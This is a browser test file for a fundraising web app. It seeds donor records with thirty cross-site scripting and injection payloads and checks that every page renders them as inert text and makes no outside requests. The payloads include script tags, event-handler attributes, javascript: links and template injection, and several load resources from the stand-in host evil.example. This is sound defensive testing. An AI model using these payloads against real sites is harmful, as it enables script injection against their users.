"""Names that contain scripts: every page shows them as text."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Request

from app import accounts, audit, demo
from app.accounts import SYSTEM, Actor, Role
from app.db import transaction_for_system
from app.ui.base.screens import SCREENS
from tests import database as run
from tests import factories as make
from tests.browser.conftest import DemoServer, go, settled

ADMIN = next(sign_in.email for sign_in in demo.SIGN_INS if sign_in.role == "admin")
PASSWORD = "violet ladder seven oceans"
OFF = "https://evil.example"
DO = "window.pwned=1"
PAYLOADS = (
    f"<script>{DO}</script>",
    f"<script src={OFF}/x.js></script>",
    f"<img src=x onerror={DO}>",
    f"<img src={OFF}/p.png>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<body onload={DO}>",
    f"<iframe src=javascript:parent.{DO}></iframe>",
    f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    f"<details open ontoggle={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<video><source onerror={DO}></video>",
    f"<math><mtext><img src=x onerror={DO}></mtext></math>",
    f"<object data={OFF}/o.swf></object>",
    f"<link rel=stylesheet href={OFF}/s.css>",
    f"<style>@import '{OFF}/s.css';</style>",
    f"<meta http-equiv=refresh content='0;url={OFF}'>",
    f"<base href={OFF}/>",
    f"<form action={OFF}><button autofocus>Go</button></form>",
    f"[click](javascript:{DO})",
    f"![picture]({OFF}/p.png)",
    f"![x](x){{onerror={DO}}}",
    f"</title></textarea><script>{DO}</script>",
    f'"><img src=x onerror={DO}>',
    f"'-{DO}-'",
    "{{constructor.constructor('" + DO + "')()}}",
    f"$\\href{{javascript:{DO}}}{{press me}}$",
    f":material/home: {OFF}/auto www.evil.example",
    f"<<b>script>{DO}<</b>/script>",
)


@pytest.fixture(scope="module")
def victim(demo_server: DemoServer) -> tuple[Actor, list[int]]:
    """A fundraiser all of whose donors are payloads: late, at risk, not thanked, with a task."""
    now = datetime.now(UTC)
    today = now.date()
    run.use(demo_server.database)
    try:
        with transaction_for_system() as db:
            user_id = accounts.create_user(
                db,
                SYSTEM,
                email="payloads@demo.example",
                name=PAYLOADS[0],
                role="fundraiser",
                password=PASSWORD,
            )
            make.monthly_goal(db, user_id, "1000")
            user = accounts.actor_by_id(db, user_id)
            ids = []
            for text in PAYLOADS:
                donor = make.donor(db, user, text, first_name=text, notes=text, tag=text[:40])
                make.gift(db, donor, "25", today - timedelta(days=1), note=text)
                since = today - timedelta(days=120)
                pledge = make.pledge(db, donor, "20", "monthly", since)
                make.alert(db, donor, pledge_id=pledge, reason=text)
                make.contact(db, donor, text=text)
                make.task(db, user, text, donor_id=donor, due_on=today)
                make.fund(db, text)
                make.import_run(db, user, file_name=text)
                audit.record(
                    db,
                    actor_id=user_id,
                    action="donor.changed",
                    entity="donor",
                    entity_id=donor,
                    donor_id=donor,
                    sentence=text,
                    before={"name": text},
                    after={"name": text},
                )
                ids.append(donor)
    finally:
        run.use(run.NOWHERE)
    return user, ids


def watched(context: BrowserContext, demo_server: DemoServer, elsewhere: list[str]) -> Page:
    page = context.new_page()
    own_address = (
        demo_server.address,
        demo_server.address.replace("http", "ws"),
        "data:",
        "blob:",
    )

    def asked(request: Request) -> None:
        if not request.url.startswith(own_address):
            elsewhere.append(request.url)

    def opened(dialog: Dialog) -> None:
        elsewhere.append(dialog.message)
        dialog.dismiss()

    page.on("request", asked)
    page.on("dialog", opened)
    page.add_init_script(
        """window.broken = [];
           document.addEventListener('securitypolicyviolation',
             (event) => window.broken.push(event.violatedDirective + ' ' + event.blockedURI))"""
    )
    return page


def visit(page: Page, places: list[str]) -> tuple[dict[str, list[Any]], str]:
    """Go to every address; return those where a script ran or was refused, and the text."""
    wrong, text = {}, ""
    for location in places:
        # signing in draws the first screen
        if location:
            go(page, location)
        text += page.locator('[data-testid="stMain"]').inner_text()
        result = page.evaluate("[window.pwned || 0, window.broken.join()]")
        if result != [0, ""]:
            wrong[location] = result
            page.evaluate("window.pwned = 0; window.broken = []")
    return wrong, text


@pytest.mark.parametrize("admin", [False, True], ids=["fundraiser", "administrator"])
def test_thirty_payloads_are_shown_as_text(
    demo_server: DemoServer, context: BrowserContext, victim: tuple[Actor, list[int]], admin: bool
) -> None:
    user, ids = victim
    assert len(set(PAYLOADS)) == 30
    elsewhere: list[str] = []
    page = watched(context, demo_server, elsewhere)
    page.goto(demo_server.address)
    settled(page)
    page.get_by_role("textbox", name="E-mail").first.fill(ADMIN if admin else user.email)
    password = demo.SIGN_INS[0].password if admin else PASSWORD
    page.get_by_role("textbox", name="Password").fill(password)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name="Sign out").wait_for(state="attached")
    settled(page)
    role = Role.ADMIN if admin else user.role
    places = [entry.url_path for entry in SCREENS if role in entry.roles and entry.in_menu]
    places += [f"donor?id={one}" for one in (ids[:3] if admin else ids)]
    places += ["donors?query=script", "gifts?query=%3Cimg+src%3Dx+onerror%3Dwindow.pwned%3D1%3E"]
    wrong, texts = visit(page, places)
    assert wrong == {}
    assert elsewhere == []
    # they are there to be read, character by character
    assert f"<script>{DO}</script>" in texts
    assert f"<img src=x onerror={DO}>" in texts
